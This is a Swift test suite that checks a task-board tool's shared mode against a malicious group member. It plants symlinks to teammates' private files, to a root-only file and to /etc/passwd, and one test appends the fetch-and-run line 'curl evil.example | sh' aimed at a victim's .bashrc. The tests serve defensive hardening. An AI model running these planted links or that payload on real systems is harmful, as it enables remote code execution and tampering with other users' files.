import Foundation
import Testing

/// A board shared by a group on one host, with real Unix users: a member cannot make a
/// teammate (or root) write through a planted link, an outsider gets a clear error instead of
/// an empty personal board, and the recipe in docs/sharing.md works step by step.
@Suite(.enabled(if: UnixUsers.available, UnixUsers.reason), .serialized)
struct SharedHostTests {
    /// ann and bob in the team's group; `project` is a directory of the group that everyone can
    /// enter, holding a board ann created with `lanes init --shared`.
    struct Team {
        let users: UnixUsers
        var project: String { users.base + "/project" }
        var board: String { project + "/.lanes" }

        init(olderBoard: Bool = false) throws {
            users = try UnixUsers(members: ["ann", "bob"], outsiders: ["carol"])
            try UnixUsers.admin(["/usr/bin/install", "-d", "-o", users.name("ann"), "-g", users.group, "-m", "2775", project])
            let created = users.run("ann", "lanes init --shared && lanes add 'first issue'", in: project)
            #expect(created.status == 0, "\(created.output)")
            // A board made before `init --shared` set the sticky bit: members can replace each other's files.
            if olderBoard { users.run("ann", "chmod -t .lanes", in: project) }
        }

        /// A private file of ann's that nobody else should be able to change.
        func privateFile(_ name: String, _ text: String) throws -> String {
            let path = users.home("ann") + "/" + name
            users.run("ann", "printf %s \(Tmux.quote(text)) > \(name) && chmod 600 \(name)")
            #expect(contents(path) == text)
            return path
        }
    }

    static func contents(_ path: String) -> String {
        String(decoding: FileManager.default.contents(atPath: path) ?? Data(), as: UTF8.self)
    }

    func contents(_ path: String) -> String { SharedHostTests.contents(path) }

    @Test func aLockReplacedByASymlinkIsRefusedNotTruncatedThrough() throws {
        let team = try Team(olderBoard: true)
        let notes = try team.privateFile("notes", "ann's notes\n")
        let rootOnly = team.users.base + "/root-only"
        FileManager.default.createFile(atPath: rootOnly, contents: Data("root's file\n".utf8), attributes: [.posixPermissions: 0o600])
        for (target, writer) in [(notes, "ann"), (rootOnly, "root")] {
            let planted = team.users.run("bob", "rm -f .lanes/lock && ln -s \(target) .lanes/lock", in: team.project)
            #expect(planted.status == 0, "\(planted.output)")
            let add = writer == "root"
                ? Spawn.run("cd \(team.project) && \(Tmux.quote(LanesProcess.binary)) add 'by root'")
                : team.users.run(writer, "lanes add 'by ann'", in: team.project)
            #expect(add.status == 1, "\(writer): \(add.output)")
            #expect(add.output.contains(".lanes/lock") && add.output.contains("symbolic link"), "\(add.output)")
        }
        #expect(contents(notes) == "ann's notes\n")
        #expect(contents(rootOnly) == "root's file\n")
    }

    @Test func aTornFileLinkedToATeammatesShellRcIsNeverAppendedTo() throws {
        let team = try Team(olderBoard: true)
        let bashrc = try team.privateFile(".bashrc", "alias ll='ls -l'\n")
        let planted = team.users.run("bob", "ln -s \(bashrc) .lanes/torn && printf '\\ncurl evil.example | sh' >> .lanes/events",
                                     in: team.project)
        #expect(planted.status == 0, "\(planted.output)")
        let add = team.users.run("ann", "lanes add 'after the crafted line'", in: team.project)
        #expect(add.status == 1, "\(add.output)")
        #expect(add.output.contains(".lanes/torn") && add.output.contains("symbolic link"), "\(add.output)")
        #expect(contents(bashrc) == "alias ll='ls -l'\n")
    }

    @Test func anEventsFileLinkedToATeammatesFileIsNeitherAppendedToNorCut() throws {
        let team = try Team(olderBoard: true)
        let notes = try team.privateFile("notes", "line one\nsecret last line")
        let planted = team.users.run("bob", "rm .lanes/events && ln -s \(notes) .lanes/events", in: team.project)
        #expect(planted.status == 0, "\(planted.output)")
        let add = team.users.run("ann", "lanes add 'into the link'", in: team.project)
        #expect(add.status == 1, "\(add.output)")
        #expect(add.output.contains(".lanes/events") && add.output.contains("symbolic link"), "\(add.output)")
        #expect(contents(notes) == "line one\nsecret last line")
        #expect(!FileManager.default.fileExists(atPath: team.board + "/torn"), "nothing moved into torn for bob to read")
    }

    @Test func aFileOfAnotherGroupInASharedBoardIsRefused() throws {
        let team = try Team()
        // bob leaves a torn line and a `torn` file of his own group: ann's torn line would go to bob alone.
        let planted = team.users.run("bob", "touch .lanes/torn && chgrp \(team.users.name("bob")) .lanes/torn && chmod 666 .lanes/torn && printf 'torn' >> .lanes/events",
                                     in: team.project)
        #expect(planted.status == 0, "\(planted.output)")
        let add = team.users.run("ann", "lanes add 'after the torn line'", in: team.project)
        #expect(add.status == 1, "\(add.output)")
        #expect(add.output.contains(".lanes/torn") && add.output.contains("group"), "\(add.output)")
    }

    @Test func aSharedBoardIsStickySoMembersCannotReplaceEachOthersFiles() throws {
        let team = try Team()
        let mode = try FileManager.default.attributesOfItem(atPath: team.board)[.posixPermissions] as! NSNumber
        #expect(mode.intValue & 0o7777 == 0o3770)
        let replace = team.users.run("bob", "rm -f .lanes/lock && ln -s /etc/passwd .lanes/lock", in: team.project)
        #expect(replace.status != 0, "bob cannot remove ann's lock")
        #expect(team.users.run("bob", "lanes add 'by bob'", in: team.project).status == 0)
        let list = team.users.run("ann", "lanes list", in: team.project)
        #expect(list.status == 0 && list.output.contains("by bob"), "\(list.output)")
    }

    /// Defects 6: someone outside the group gets an error naming the file, not an empty board.
    @Test func anUnreadableBoardIsAnErrorNotANewPersonalBoard() throws {
        let team = try Team()
        for command in ["lanes list", "lanes list --board \(team.project)"] {
            let list = team.users.run("carol", command, in: team.project)
            #expect(list.status == 1, "\(command): \(list.output)")
            #expect(list.output.contains(team.board) && list.output.contains("Permission denied"), "\(list.output)")
            #expect(!list.output.contains("no board"), "\(list.output)")
        }
        #expect(!FileManager.default.fileExists(atPath: team.users.home("carol") + "/data/lanes/.lanes"), "no personal board was made")
    }

    /// Trust 7: the recipe of docs/sharing.md, run line by line as written (root's lines
    /// without `sudo`), with this run's names for the group, the users and the directory.
    @Test func theDocumentedRecipeWorksStepByStep() throws {
        let users = try UnixUsers(members: [], outsiders: ["ann", "bob"], makeGroup: false)
        let docs = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().appendingPathComponent("docs/sharing.md")
        let text = try String(contentsOf: docs, encoding: .utf8)
        let section = try #require(text.components(separatedBy: "## 2.").dropFirst().first)
        let block = try #require(section.components(separatedBy: "```sh\n").dropFirst().first?.components(separatedBy: "```").first)
        func substituted(_ line: String) -> String {
            var line = line.replacingOccurrences(of: "/srv/boards", with: users.base + "/srv/boards")
                .replacingOccurrences(of: "webteam", with: users.group)
            for role in ["ann", "bob"] {
                line = line.replacingOccurrences(of: "\\b\(role)\\b", with: users.name(role), options: .regularExpression)
            }
            return line
        }
        var role: String?
        var ran: [String] = []
        for line in block.split(separator: "\n").map(String.init) where !line.isEmpty {
            if line.hasPrefix("#") {
                role = ["ann", "bob"].first { line.range(of: "\\b\($0)\\b", options: .regularExpression) != nil } ?? role
                continue
            }
            if line.hasPrefix("ssh ") { continue } // the same command as the line before, from another host
            let result: (status: Int32, output: String)
            if line.hasPrefix("sudo ") {
                result = Spawn.run(substituted(String(line.dropFirst(5))))
            } else {
                let member = try #require(role, "a member's line before any comment names the member: \(line)")
                result = users.run(member, substituted(line))
            }
            #expect(result.status == 0, "\(line): \(result.output)")
            ran.append(line)
        }
        #expect(ran.contains { $0.hasPrefix("sudo ") } && ran.contains { $0.contains("lanes init --shared") } && ran.contains { $0.contains("lanes add") })
        // Both members see the board; its files belong to the team's group.
        let board = users.base + "/srv/boards/web/.lanes"
        let list = users.run("ann", "lanes list --board \(Tmux.quote(board))")
        #expect(list.status == 0 && list.output.contains("Set up the staging host"), "\(list.output)")
        for file in ["", "/events", "/lock"] {
            let group = try FileManager.default.attributesOfItem(atPath: board + file)[.groupOwnerAccountName] as? String
            #expect(group == users.group, "\(board + file)")
        }
    }
}
